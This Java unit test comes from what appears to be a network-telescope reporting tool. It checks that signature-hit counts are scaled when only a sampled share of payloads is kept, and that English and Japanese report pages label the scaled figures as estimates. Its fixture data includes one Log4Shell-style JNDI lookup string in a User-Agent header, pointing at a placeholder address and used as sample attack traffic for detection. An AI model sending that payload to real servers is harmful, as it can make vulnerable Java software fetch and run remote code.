package org.noroshi.publish.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.noroshi.detect.exploit.SignatureFile;
import org.noroshi.detect.finding.Label;
import org.noroshi.publish.Language;
import org.noroshi.publish.publication.Publication;
import org.noroshi.publish.sheet.Sentences;
import org.noroshi.publish.sheet.SheetPage;
import org.noroshi.store.Commit;
import org.noroshi.store.DataFolder;
import org.noroshi.store.Ledger;
import org.noroshi.store.Query;
import org.noroshi.store.observed.FindingTable;
import org.noroshi.telescope.table.ColumnBatch;
import org.noroshi.telescope.window.EventTables;
import org.noroshi.telescope.window.ObservationTables;

/** One window keeps all payload contents, the next a quarter of them. */
class SampledPayloadsTest {
  private static final long FIRST = Instant.parse("2026-05-01T00:00:00Z").getEpochSecond();
  private static final LocalDate DAY = LocalDate.of(2026, 5, 1);

  @TempDir Path root;

  private void window(Commit commit, long at, double share, long hits) throws IOException {
    ColumnBatch coverage = new ColumnBatch(ObservationTables.COVERAGE, 1);
    coverage.longs("window")[0] = at * 1_000_000_000;
    coverage.longs("addresses")[0] = 100;
    coverage.doubles("seconds_up")[0] = 300;
    coverage.longs("packets")[0] = 1_000;
    coverage.longs("payload_packets")[0] = 500;
    coverage.doubles("payload_share")[0] = share;
    for (String column : List.of("source_bit_bias", "drops", "origin_version", "kind")) {
      coverage.nulls(column)[0] = true;
    }
    coverage.rows = 1;
    commit.write("campus", DAY, coverage, false);
    ColumnBatch payload = new ColumnBatch(ObservationTables.PAYLOAD, 1);
    byte[] bytes =
        "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.7/a}\r\n\r\n"
            .getBytes(StandardCharsets.US_ASCII);
    payload.longs("window")[0] = at * 1_000_000_000;
    payload.strings("digest")[0] = "00";
    payload.strings("protocol")[0] = "tcp";
    payload.ints("port")[0] = 80;
    payload.ints("length")[0] = bytes.length;
    payload.binaries("bytes")[0] = bytes;
    payload.longs("packets")[0] = hits;
    payload.longs("sources")[0] = 1;
    payload.longs("first")[0] = (at + 1) * 1_000_000_000;
    payload.longs("last")[0] = (at + 2) * 1_000_000_000;
    payload.rows = 1;
    commit.write("campus", DAY, payload, false);
  }

  private ReportMaker.Made made(double shareOfSecond) throws IOException {
    Path data = root.resolve("data" + shareOfSecond);
    try (DataFolder folder = DataFolder.open(data)) {
      Commit commit = folder.begin();
      window(commit, FIRST, 1, 3);
      window(commit, FIRST + 300, shareOfSecond, 2);
      commit.commit(out -> out.writeByte(1), List::of, Ledger.of(folder));
    }
    try (Query query =
            Query.open(
                data,
                List.of(
                    ObservationTables.FLOWTUPLE,
                    ObservationTables.SERIES,
                    EventTables.SCAN,
                    EventTables.ATTACK,
                    ObservationTables.HOSTSLOT,
                    ObservationTables.PAYLOAD,
                    ObservationTables.COVERAGE,
                    FindingTable.FINDING));
        var rules =
            new InputStreamReader(
                Objects.requireNonNull(
                    SignatureFile.class.getResourceAsStream(SignatureFile.BUILT_IN)),
                StandardCharsets.UTF_8)) {
      return ReportMaker.make(
          query,
          Period.day(DAY, ZoneId.of("UTC")),
          new ReportOptions(
              "JP",
              SignatureFile.read(rules, SignatureFile.BUILT_IN),
              null,
              List.of(),
              10,
              Label.CLEAR));
    }
  }

  @Test
  void hitsCountForTheShareOfContentsThatTheirWindowKept() throws IOException {
    Report report = made(0.25).report();

    // 3 where all is kept, and 2 / 0.25
    assertThat(report.totals().signatureHits()).isEqualTo(11);
    assertThat(report.totals().signatureHitsCounted()).isEqualTo(5);
    assertThat(report.signatures().getFirst().packets()).isEqualTo(11);
    // 600 s of 100 addresses
    assertThat(report.totals().signatureHitsPerAddressDay())
        .isCloseTo(11 / (100 * 600 / 86_400.0), within(1e-4));
    assertThat(report.slots().getFirst().signatureHitsPerAddressDay())
        .isCloseTo(11 / (100 * 600 / 86_400.0), within(1e-4));
    assertThat(report.coverage().getFirst().payloadShare()).isEqualTo(0.25);
    assertThat(report.notes()).contains("payloadsSampled");
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void estimateIsSaidToBeOneBesideTheFigure(Language language) throws IOException {
    String page = page(made(0.25), language);

    if (language == Language.JAPANESE) {
      assertThat(page)
          .contains(">約 11</td>", ">約 15.8</td>", "「約」は推定値。", "最少で 25.0 %", "実際に数えたのは 5 パケット。");
    } else {
      assertThat(page)
          .contains(
              ">about 11</td>",
              ">about 15.8</td>",
              "About: an estimate.",
              "(at least 25.0 %)",
              "5 packets were counted.");
    }
    assertThat(Sentences.of(made(0.2).report(), Language.ENGLISH))
        .anySatisfy(said -> assertThat(said).startsWith("By estimate 13 packets fitted"));
  }

  @Test
  void nothingIsCalledAnEstimateWhereAllContentsAreKept() throws IOException {
    ReportMaker.Made made = made(1);

    assertThat(made.report().totals().signatureHits()).isEqualTo(5);
    assertThat(made.report().notes()).doesNotContain("payloadsSampled");
    assertThat(page(made, Language.ENGLISH))
        .doesNotContain(">about ", ">約 ", "an estimate", "推定値。");
  }

  private String page(ReportMaker.Made made, Language language) throws IOException {
    return SheetPage.render(
        Publication.of(
            root.resolve("publications" + made.report().totals().signatureHits()),
            Period.day(DAY, ZoneId.of("UTC")),
            made,
            Map.of(),
            "2026-05-02T00:00:00Z"),
        language);
  }
}
